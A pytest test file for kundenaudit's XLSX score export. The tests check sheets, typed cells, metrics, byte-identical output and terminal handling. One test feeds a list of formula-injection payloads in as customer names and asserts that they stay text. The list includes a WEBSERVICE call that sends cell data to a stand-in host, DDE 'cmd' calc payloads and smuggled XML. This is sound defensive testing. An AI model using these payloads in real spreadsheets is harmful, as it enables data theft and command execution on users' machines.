"""`score --format xlsx`: four sheets of typed cells, text never a formula, never to a terminal."""

from __future__ import annotations

import datetime as dt
import json
import os
import pty
import re
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner

from kundenaudit.cli.app import app
from kundenaudit.render.score_render import RENDERERS, ScoreFormat

ROOT = Path(__file__).resolve().parents[2]
TODAY = ["--today", "2026-11-27"]
HOSTILE = [
    '=WEBSERVICE("http://example.invalid/?"&A1)',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "<r><t>x</t></r></is><f>1+1</f><is><r><t>y</t></r>",
]


def invoke(*args: str) -> tuple[int, str, str]:
    result = CliRunner().invoke(app, list(args), catch_exceptions=False)
    return result.exit_code, result.stdout, result.stderr


@pytest.fixture
def portfolio_book(tmp_path: Path) -> Path:
    out = tmp_path / "portfolio.xlsx"
    code, stdout, err = invoke(
        "score", str(ROOT / "examples" / "portfolio.yaml"), "-o", str(out), *TODAY
    )
    assert (code, stdout) == (0, ""), err
    return out


def test_xlsx_is_in_the_registry_with_its_suffix() -> None:
    assert RENDERERS[ScoreFormat.XLSX].suffixes == (".xlsx",)
    assert RENDERERS[ScoreFormat.XLSX].binary


def test_four_sheets_with_typed_cells(portfolio_book: Path) -> None:
    wb = load_workbook(portfolio_book)
    assert wb.sheetnames == ["Portfolio", "Lücken", "Heat-Map", "Ziele", "Metriken"]
    ws = wb["Portfolio"]
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == "A1:P9"  # header + 8 customers, 14 columns + 2 metrics
    header = [c.value for c in ws[1]]
    assert header[:5] == ["Kunde", "Name", "Segment", "Status", "Index"]
    rows = {r[0].value: r for r in ws.iter_rows(min_row=2)}
    assert len(rows) == 8
    k2 = rows["K-30002"]  # examples/portfolio.yaml: rot, index 84.21, Muss 90.0
    assert k2[3].value == "rot" and k2[3].data_type == "s"
    assert k2[4].value == pytest.approx(84.21) and k2[4].data_type == "n"
    assert k2[4].number_format == "0.0"
    assert k2[5].value == pytest.approx(90.0)
    assert k2[13].value == dt.datetime(2026, 11, 20)  # audited, a date cell
    assert k2[13].number_format == "yyyy-mm-dd"
    # the metric values (kpis): K-30002 {deckungsbeitrag: 44000, zufriedenheit: 3.6}
    assert header[14:] == ["deckungsbeitrag", "zufriedenheit"]
    assert (k2[14].value, k2[15].value) == (44000, 3.6) and k2[14].data_type == "n"
    assert rows["K-30005"][14].value is None  # K-30005 has no kpis
    assert ws.column_dimensions["B"].width > len("Name")  # widths follow the names
    rules = [r for cf in ws.conditional_formatting for r in cf.rules]
    assert {r.formula[0] for r in rules} == {'"rot"', '"gelb"', '"grün"'}


def test_gaps_goals_and_heatmap(portfolio_book: Path) -> None:
    wb = load_workbook(portfolio_book)
    gaps = list(wb["Lücken"].iter_rows(min_row=2, values_only=True))
    k5 = [g for g in gaps if g[0] == "K-30005"]
    reklamation = next(g for g in k5 if g[1] == "reklamation")
    # K-30005: knock-out reklamation nicht_erfuellt (degree 0), a Muss, a next step
    assert reklamation[3] == "Muss" and reklamation[4] is True and reklamation[6] == 0
    assert reklamation[10] is True
    goals = list(wb["Ziele"].iter_rows(min_row=2, values_only=True))
    k3 = [g for g in goals if g[0] == "K-30003" and g[6] == "überfällig"]
    # [lieferverzug_info, teillieferung] 50.0 < 75 by 2026-09-30: ueberfaellig
    assert [(g[3], g[4], g[5]) for g in k3] == [(75, dt.datetime(2026, 9, 30), 50)]
    heat = wb["Heat-Map"]
    assert heat.freeze_panes == "B2"
    segments = [str(c.value) for c in heat[1]][1:]
    assert sorted(segments) == ["gelegenheitskunde", "schluesselkunde", "standard", "systempartner"]
    values = [c.value for row in heat.iter_rows(min_row=2, min_col=2) for c in row]
    assert all(v is None or (isinstance(v, int | float) and 0 <= v <= 100) for v in values)
    _, out, _ = invoke("score", str(ROOT / "examples" / "portfolio.yaml"), "-f", "json", *TODAY)
    expected = json.loads(out)["portfolio"]["heatmap"]
    for row in heat.iter_rows(min_row=2, values_only=True):
        assert dict(zip(segments, row[1:], strict=True)) == {
            seg: expected[seg][row[0]] for seg in segments
        }


def test_metric_summary_per_segment(portfolio_book: Path) -> None:
    ws = load_workbook(portfolio_book)["Metriken"]
    assert ws.freeze_panes == "A2"
    rows = {(r[0], r[1]): r[2:] for r in ws.iter_rows(min_row=2, values_only=True)}
    assert len(rows) == 8  # 4 segments x 2 metrics
    # systempartner: K-30001 96000 and K-30008 61000; target 50000 (catalogs/standard.yaml)
    # customers 2, mean (96000 + 61000) / 2 = 78500, sum 157000, both meet it: 100 %
    assert rows[("systempartner", "deckungsbeitrag")] == (2, 78500, 157000, 50000, 100)
    # gelegenheitskunde zufriedenheit: only K-30007 has one (3.9 >= 3.5): 1, 3.9, 3.9, 100 %
    assert rows[("gelegenheitskunde", "zufriedenheit")] == (1, 3.9, 3.9, 3.5, 100)


def test_without_metrics_there_is_no_metric_sheet(tmp_path: Path) -> None:
    out = tmp_path / "plain.xlsx"
    catalog = ROOT / "tests" / "data" / "calibrate" / "catalog.yaml"  # declares no metrics
    record = tmp_path / "r.yaml"
    record.write_text(
        "kundenaudit: 1\ncustomer: {id: C-1, segment: gross}\nservices: {treiber: erfuellt}\n",
        encoding="utf-8",
    )
    code, _, err = invoke("score", str(record), "-c", str(catalog), "-o", str(out), *TODAY)
    assert code == 0, err
    wb = load_workbook(out)
    assert wb.sheetnames == ["Portfolio", "Lücken", "Heat-Map", "Ziele"]
    assert wb["Portfolio"].max_column == 14


def test_names_that_look_like_formulas_stay_text(tmp_path: Path) -> None:
    docs = []
    for i, name in enumerate(HOSTILE):
        quoted = name.replace("'", "''")
        docs.append(
            f"kundenaudit: 1\ncustomer: {{id: K-{i}, name: '{quoted}', segment: standard}}\n"
            "services: {reklamation: erfuellt}\n"
        )
    (tmp_path / "hostile.yaml").write_text("---\n".join(docs), encoding="utf-8")
    out = tmp_path / "hostile.xlsx"
    code, _, err = invoke("score", str(tmp_path / "hostile.yaml"), "-o", str(out), *TODAY)
    assert code == 0, err
    with zipfile.ZipFile(out) as z:
        for part in z.namelist():
            if part.startswith("xl/worksheets/"):
                assert "<f>" not in z.read(part).decode("utf-8"), part
        sheet = z.read("xl/worksheets/sheet1.xml").decode("utf-8")
    names = re.findall(r'<c r="B\d+"[^>]*t="inlineStr"><is>(.*?)</is></c>', sheet)
    assert len(names) == len(HOSTILE) + 1  # the header and one string per customer
    ws = load_workbook(out)["Portfolio"]
    cells = [ws.cell(row=r, column=2) for r in range(2, 2 + len(HOSTILE))]
    assert [c.value for c in cells] == HOSTILE
    assert {c.data_type for c in cells} == {"s"}
    # and kundenaudit's own reader reads the same text back
    from kundenaudit.load.xlsx.workbook import Workbook

    book = Workbook(out.read_bytes())
    read = [cells[2] for row, cells in book.rows(book.sheets[0], lambda r, c: None) if row > 1]
    assert read == HOSTILE


def test_the_same_inputs_give_the_same_bytes(portfolio_book: Path, tmp_path: Path) -> None:
    again = tmp_path / "again.xlsx"
    args = (
        "score",
        str(ROOT / "examples" / "portfolio.yaml"),
        "--format",
        "xlsx",
        "-o",
        str(again),
    )
    assert invoke(*args, *TODAY)[0] == 0
    assert again.read_bytes() == portfolio_book.read_bytes()


def test_never_written_to_a_terminal(tmp_path: Path) -> None:
    primary, secondary = pty.openpty()
    try:
        proc = subprocess.run(
            [sys.executable, "-m", "kundenaudit", "score", "examples/gelb.yaml", "-f", "xlsx"],
            stdout=secondary,
            stderr=subprocess.PIPE,
            cwd=ROOT,
            check=False,
            text=True,
        )
        os.set_blocking(primary, False)
        try:
            written = os.read(primary, 65536)
        except BlockingIOError:
            written = b""
    finally:
        os.close(primary)
        os.close(secondary)
    assert proc.returncode == 2
    assert written == b""
    assert "--format xlsx writes a file, not text: add -o FILE.xlsx" in proc.stderr


def test_piped_stdout_gets_the_workbook(tmp_path: Path) -> None:
    proc = subprocess.run(
        [sys.executable, "-m", "kundenaudit", "score", "examples/gelb.yaml", "-f", "xlsx"],
        capture_output=True,
        cwd=ROOT,
        check=False,
    )
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout[:4] == b"PK\x03\x04"


def test_without_the_extra_an_xlsx_output_says_how_to_install_it(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setitem(sys.modules, "defusedxml", None)  # the extra is missing
    out = tmp_path / "r.xlsx"
    code, stdout, err = invoke("score", str(ROOT / "examples" / "gelb.yaml"), "-o", str(out))
    assert (code, stdout) == (2, "")
    assert "pip install 'kundenaudit[xlsx]'" in err
    assert "Traceback" not in err
    assert list(tmp_path.iterdir()) == []  # nothing written, no temp file left
